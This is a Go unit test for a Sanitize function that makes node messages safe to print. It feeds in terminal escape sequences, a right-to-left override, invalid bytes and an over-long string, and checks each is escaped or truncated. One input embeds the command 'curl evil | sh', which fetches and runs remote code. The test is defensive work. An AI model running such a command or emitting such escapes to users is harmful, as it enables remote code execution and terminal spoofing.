package endpoint

import (
	"strings"
	"testing"
)

func TestWhatANodeSaysCannotCommandATerminal(t *testing.T) {
	for given, want := range map[string]string{
		"fee too low":                              "fee too low",
		"\x1b[2J\x1b[31mall good\r":                `\x1b[2J\x1b[31mall good`,
		"one\nline: curl evil | sh":                `one\nline: curl evil | sh`,
		"\u202etxt.exe":                            `\u202etxt.exe`,
		"bell\a\x9b31m \xff":                       "bell\\a\uFFFD31m \uFFFD",
		"prix 5 € à 0x" + strings.Repeat("ab", 20): "prix 5 € à 0x…",
	} {
		if got := Sanitize(given); got != want {
			t.Errorf("%q becomes %q, want %q", given, got, want)
		}
	}
	if got := Sanitize(strings.Repeat("€", 100)); len(got) > 210 || !strings.HasSuffix(got, "€…") {
		t.Errorf("a long message becomes %q", got)
	}
}
